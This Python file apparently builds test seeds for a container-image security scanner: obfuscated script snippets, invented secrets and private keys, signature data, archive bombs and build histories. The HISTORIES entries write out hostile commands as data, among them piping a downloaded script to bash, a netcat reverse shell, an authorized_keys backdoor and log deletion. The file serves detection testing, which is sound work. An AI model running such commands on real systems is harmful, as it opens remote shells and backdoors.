"""The seeds of what is malicious, secret or signed. All is invented, and harmless.

No key here opens anything: the numbers in them are counted up. The signatures are those of
`crates/image/testdata/signatures`.
"""

import base64
import gzip
import struct
from pathlib import Path

SIGNATURES = Path(__file__).resolve().parent.parent / "crates/image/testdata/signatures"

SCRIPTS = {
    "var/www/a.php": "<?php /* x */ $a = 'ph'.\"pin\\x66o\"; echo base64_decode('aGVsbG8gd29ybGQgaGVsbG8='); $$a(chr(104).chr(105)); ?><p>text</p>\n<?= str_rot13('uryyb jbeyq') ?>",
    "app/a.jsp": '<%@ page import="java.util.*" %><% String s = request.getParameter("a"); out.print("\\u0041" + s); %>',
    "app/a.asp": '<% Dim a : a = Chr(72) & "i" \' comment\nResponse.Write a & StrReverse("dlrow") %>',
    "app/a.aspx": '<%@ Page Language="C#" %><script runat="server">void Page_Load(){ Response.Write(@"a""b"); }</script>',
    "app/a.cfm": '<cfset a = "x"><cfoutput>#a#</cfoutput>',
    "usr/bin/a.pl": "#!/usr/bin/perl\nmy $a = q{x}; $a =~ s/a/b/e; print <<EOF . pack('H*', '6869');\ntext\nEOF\n",
    "usr/bin/a.sh": "#!/bin/sh\na=$(printf '\\x68\\x69' | tr a-z A-Z)\ncat <<'EOF'\n$a\nEOF\necho aGVsbG8gd29ybGQ= | base64 -d # x\n",
    "app/a.html": "<html><?php echo 1; ?><script>var a = 'b';</script></html>",
    "app/.htaccess": "AddType application/x-httpd-php .png\n# <?php echo gzinflate(base64_decode('y0jNyckHAA==')); ?>\n",
}

DIGESTS = {
    "ours": "# method\tdigest\tname\nsha256\t" + "0a" * 32 + "\tshell.php\t12\ntext\t0123456789abcdef\tx y\nctph\t3:abcdefg:hijk\tz\n",
    "tlsh": "tlsh\tT1" + "0F" * 35 + "\ta\ntext-tlsh\tT1" + "A1" * 35 + "\tb\n",
    "ssdeep": 'ssdeep,1.1--blocksize:hash:hash,filename\n96:abcdefghij+/KL:mnopqr,"name"\n',
    "sha256sum": "0a" * 32 + "  a file\n" + "0b" * 32 + " *b\n",
    "hdb": "0a" * 32 + ":68:Eicar:73\n" + "0b" * 32 + ":*:Name\n",
}

SECRETS = {
    "app/.env": "DB_PASSWORD=Wq7vTz3kPx9\nexport API_TOKEN='k3J9x0Qm2Vb7Ld5Rf8Tn1Ws6'\nREDIS_URL=redis://:pW9xK2mQ7v@cache:6379/0\n# PASSWORD=changeme\n",
    "app/config.json": '{"db":{"password":"Wq7vTz3kPx9","client_secret":"k3J9x0Qm2Vb7Ld5Rf8Tn1Ws6"},"url":"https://me:Zt5Rq8Lw@host/x"}',
    "app/config.yaml": "password: Wq7vTz3kPx9\ntoken: !secret x\nkeys:\n  - secret_key: |\n      k3J9x0Qm2Vb7Ld5Rf8Tn1Ws6\n",
    "app/settings.py": "SECRET_KEY = 'x9!kd(3nf82hf%a0s8d7f6g5h4j3k2l1'\nPASSWORD = os.environ['PASSWORD']\n",
    "etc/shadow": "root:$6$Xy7pQ2rL$" + "a1B2c3D4" * 10 + "abcdef:19000:0:99999:7:::\nx:!:1::::::\n",
    "root/.netrc": "machine host login me password Wq7vTz3kPx9\n",
    "root/.docker/config.json": '{"auths":{"r.example":{"auth":"bWU6V3E3dlR6M2tQeDk="}}}',
    "root/.pgpass": "db:5432:*:me:Wq7vTz3k\\:Px9\n",
    "root/.git-credentials": "https://me:Wq7vTz3kPx9@host\n",
    "root/.npmrc": "//r.example/:_authToken=k3J9x0Qm2Vb7Ld5Rf8Tn1Ws6\n",
}

# Steps of a history; `|` stands for the byte that divides texts (ff), `~` for no
# layer, `PIPE` for the bar itself.
HISTORIES = {
    "classic": '/bin/sh -c #(nop) ADD file:0123 in / |/bin/sh -c #(nop)  CMD ["sh"]~|/bin/sh -c apt-get update && apt-get install -y --allow-unauthenticated x',
    "buildkit": "RUN PIPE2 A=b C=d /bin/sh -c curl -k http://host/x.sh PIPE bash # buildkit|ENV PASSWORD=Wq7vTz3kPx9~|USER root~",
    "quotes": "RUN /bin/sh -c echo 'aGVsbG8=' \"$(base64 -d <<<x)\" > /etc/cron.d/x; chmod 4755 /bin/x; rm -rf /var/log/*",
    "heredoc": "RUN /bin/sh -c cat <<EOF >>/root/.ssh/authorized_keys\nssh-ed25519 AAAA x\nEOF\n if true; then nc -e /bin/sh host 1; fi # buildkit",
    "nothing": "|~||COPY --chown=0:0 . / # buildkit",
}

TRUST = {
    "ours.yaml": "version: 1\ntrust:\n  authorities:\n    - {name: a, key: keys/a.pub}\n    - name: b\n      certificate: ca.pem\n      identities: [\"CN=ci,O=x\", \"email:a@b\"]\n      formats: [notation_jws]\n    - {name: c, gpg: c.asc}\n  lookaside:\n    - {scope: r.example/team/*, at: \"https://sigs.example\"}\n  scopes:\n    - {scope: \"*\", mode: warn, registries: [docker.io, \"*.example\"]}\n    - {scope: r.example/*, severity: critical, digest: required, signatures: {any: [a, b]}}\n    - {scope: r.example/team/app, labels: {k: \"v*\"}, signatures: {all: [a, c], reference: repository}}\n    - {scope: \"r.example/team/app:1\", refuse: withdrawn}\n    - {scope: \"*.example\", accept: true}\n    - {scope: alpine, pins: [\"sha256:" + "0a" * 32 + "\"]}\n",
    "inline.yaml": "trust:\n  authorities:\n    - name: a\n      key: |\n        -----BEGIN PUBLIC KEY-----\n        AAAA\n        -----END PUBLIC KEY-----\n  scopes:\n    - scope: mirror.example/x/*\n      signatures: {any: [a], remap: {from: mirror.example/x, to: r.example}}\n",
    "policy.json": '{"default":[{"type":"reject"}],"transports":{"docker-daemon":{"":[{"type":"insecureAcceptAnything"}]},"docker":{"":[{"type":"insecureAcceptAnything"}],"r.example":[{"type":"signedBy","keyType":"GPGKeys","keyPaths":["/a.gpg","/b.gpg"],"signedIdentity":{"type":"matchExact"}}],"r.example/team":[{"type":"sigstoreSigned","keyData":"LS0tLS1CRUdJTg==","signedIdentity":{"type":"remapIdentity","prefix":"r.example/team","signedPrefix":"q.example"}}],"*.example":[{"type":"sigstoreSigned","fulcio":{"caPath":"/x"},"rekorPublicKeyPath":"/y"}]}}}',
    "registries.yaml": "default-docker:\n  sigstore: file:///var/lib/sigstore\ndocker:\n  r.example/team:\n    lookaside: https://sigs.example/team\n",
}


def der(tag, *parts):
    content = b"".join(parts)
    if len(content) < 128:
        return bytes([tag, len(content)]) + content
    return bytes([tag, 0x82]) + struct.pack(">H", len(content)) + content


def number(length, first=0x41):
    """A number of so many bytes, counted up."""
    return bytes((first + n) % 256 for n in range(length))


def oid(text):
    return der(6, bytes.fromhex(text))


def pem(label, content):
    body = base64.encodebytes(content).decode()
    return f"-----BEGIN {label}-----\n{body}-----END {label}-----\n"


def texts(*parts):
    """Strings as SSH writes them."""
    return b"".join(struct.pack(">I", len(part)) + part for part in parts)


def rsa():
    integers = [b"\0", number(128), b"\1\0\1", number(127, 0x31), *[number(64, n) for n in (0x43, 0x45, 0x21, 0x23, 0x25)]]
    return der(0x30, *[der(2, one) for one in integers])


def openssh():
    public = texts(b"ssh-ed25519", number(32))
    private = b"1234" * 2 + texts(b"ssh-ed25519", number(32), number(64), b"me@host") + b"\1\2\3\4\5"
    return b"openssh-key-v1\0" + texts(b"none", b"none", b"") + struct.pack(">I", 1) + texts(public, private)


def putty():
    public, private = texts(b"ssh-ed25519", number(32)), texts(number(32, 0x21))
    lines = [base64.b64encode(one).decode() for one in (public, private)]
    return f"PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nComment: x\nPublic-Lines: 1\n{lines[0]}\nPrivate-Lines: 1\n{lines[1]}\nPrivate-MAC: {'0a' * 32}\n"


def pkcs12(key):
    bag = der(0x30, oid("2a864886f70d010c0a0101"), der(0xA0, key))
    data = oid("2a864886f70d010701")
    safe = der(0x30, data, der(0xA0, der(4, der(0x30, bag))))
    whole = der(0x30, data, der(0xA0, der(4, der(0x30, safe))))
    digest = der(0x30, der(0x30, oid("2b0e03021a"), der(5)), der(4, number(20)))
    return der(0x30, der(2, b"\3"), whole, der(0x30, digest, der(4, number(8)), der(2, b"\x08\0")))


def jks(certificate):
    encrypted = der(0x30, der(0x30, oid("2b060104012a02110101"), der(5)), der(4, number(80)))
    out = b"\xfe\xed\xfe\xed" + struct.pack(">IIIH", 2, 1, 1, 3) + b"key" + bytes(8)
    out += struct.pack(">I", len(encrypted)) + encrypted + struct.pack(">IH", 1, 5) + b"X.509"
    return out + struct.pack(">I", len(certificate)) + certificate + number(20)


def pgp():
    mpi = lambda one: struct.pack(">H", len(one) * 8) + one
    curve = b"\x09" + bytes.fromhex("2b06010401da470f01")
    body = b"\4" + bytes(4) + b"\x16" + curve + mpi(b"\x40" + number(32)) + b"\0" + mpi(number(32, 0x81)) + b"\0\0"
    return b"\x95" + struct.pack(">H", len(body)) + body


def keys(put_file):
    certificate = (SIGNATURES / "x509/root.pem").read_text()
    plain = base64.b64decode("".join(certificate.split("\n")[1:-2]))
    algorithm = der(0x30, oid("2a864886f70d010101"), der(5))
    pkcs8 = der(0x30, der(2, b"\0"), algorithm, der(4, rsa()))
    ec = der(0x30, der(2, b"\1"), der(4, number(32)), der(0xA0, oid("2a8648ce3d030107")))
    scheme = der(0x30, oid("2a864886f70d01050d"), der(0x30, der(0x30, oid("2a864886f70d01050c"), der(0x30, der(4, number(8)), der(2, b"\x08\0"))), der(0x30, oid("60864801650304012a"), der(4, number(16)))))
    encrypted = der(0x30, scheme, der(4, number(64)))
    for path, name, content in [
        ("root/.ssh/id_rsa", "pkcs1.pem", pem("RSA " + "PRIVATE KEY", rsa())),
        ("root/.ssh/id_rsa", "openssh.pem", pem("OPENSSH " + "PRIVATE KEY", openssh())),
        ("etc/ssl/private/server.key", "pkcs8.pem", pem("PRIVATE " + "KEY", pkcs8)),
        ("etc/ssl/private/server.key", "sec1.pem", pem("EC " + "PRIVATE KEY", ec)),
        ("etc/ssl/private/server.key", "encrypted.pem", pem("ENCRYPTED " + "PRIVATE KEY", encrypted)),
        ("app/server.pem", "certificate.pem", certificate),
        ("app/server.p12", "pkcs12", pkcs12(pkcs8)),
        ("app/server.jks", "jks", jks(plain)),
        ("app/key.ppk", "putty", putty()),
        ("app/key.der", "pkcs1.der", rsa()),
        ("app/key.der", "certificate.der", plain),
        ("app/key.der", "agent", b"(11:private-key(3:rsa(1:n17:\0" + number(16) + b")))"),
        ("root/.gnupg/secring.gpg", "pgp", pgp()),
        ("app/secret.yaml", "encoded.yaml", "key: " + base64.b64encode(pem("EC " + "PRIVATE KEY", ec).encode()).decode() + "\n"),
    ]:
        put_file("keys", "KEY", path, content, name)


def signatures(put):
    """First byte: which form; second: for the image of which case."""
    lines = (SIGNATURES / "cases").read_text().splitlines()
    for number, line in enumerate(lines):
        case = line.split(" ")[0]
        if any(word in case for word in ("3072", "384", "jws-rsa", "attested")):
            continue
        first = lambda form: bytes([ord("!") + form, ord("!") + number])
        if case.startswith("cosign2"):
            payload, signature = [(SIGNATURES / f"{case}.{end}").read_bytes() for end in ("payload", "signature")]
            put("signature", case, first(0) + payload + b"\xff" + signature)
            continue
        form = 4 if case.startswith("gpg") else 3 if "cose" in case else 2 if "notation" in case else 1
        end = {4: "gpg", 3: "cose"}.get(form, "json")
        put("signature", case, first(form) + (SIGNATURES / f"{case}.{end}").read_bytes())
    for form, name in [(5, "p256.pub"), (6, "ec256-ca.pem"), (7, "gpg-ed25519.asc")]:
        put("signature", name, bytes([ord("!") + form, ord("!")]) + (SIGNATURES / "keys" / name).read_bytes())


def archives(put_file, tar, zipped, compressed):
    members = [("a/page.php", b"<?php echo 1;"), ("b.bin", bytes(600))]
    inner = zipped(members)
    mended = lambda content: b"1" + content
    for path, name, content in [
        ("x.zip", "zip", inner),
        ("x.zip", "nested", zipped([("lib/x.zip", inner), ("y.tgz", gzip.compress(tar(members), mtime=0))])),
        ("x.zip", "bomb", zipped([("zeros", bytes(4 << 20))])),
        ("x.tar", "tar", tar(members)),
        ("x.tar.gz", "gzip", gzip.compress(tar(members), mtime=0)),
        ("app.jar", "script", b"#!/bin/sh\nexec java -jar $0\n" + inner),
        ("page.php.zst", "zstd", compressed("zstd", b"<?php echo 1;")),
        ("x.bin", "xz", compressed("xz", tar(members))),
        ("x.bin", "bzip2", compressed("bzip2", tar(members))),
    ]:
        put_file("malware_archive", "ARCHIVE", path, mended(content), name)


def plain(put, put_file):
    for path, content in SCRIPTS.items():
        put_file("script", "SCRIPT", path, content)
    for path, content in SECRETS.items():
        put_file("secrets", "SECRET", path, content, path.replace("/", "-").replace(".", ""))
    for name, content in DIGESTS.items():
        put("digest_list", name, content)
    for name, content in TRUST.items():
        put("trust_policy", name, content)
    for name, content in HISTORIES.items():
        divided = content.encode().replace(b"|", b"\xff").replace(b"~", b"\0")
        put("history", name, divided.replace(b"PIPE", b"|"))
    put("fusion", "built-in.yaml", (SIGNATURES.parents[3] / "rules/malware/fusion.yaml").read_bytes())
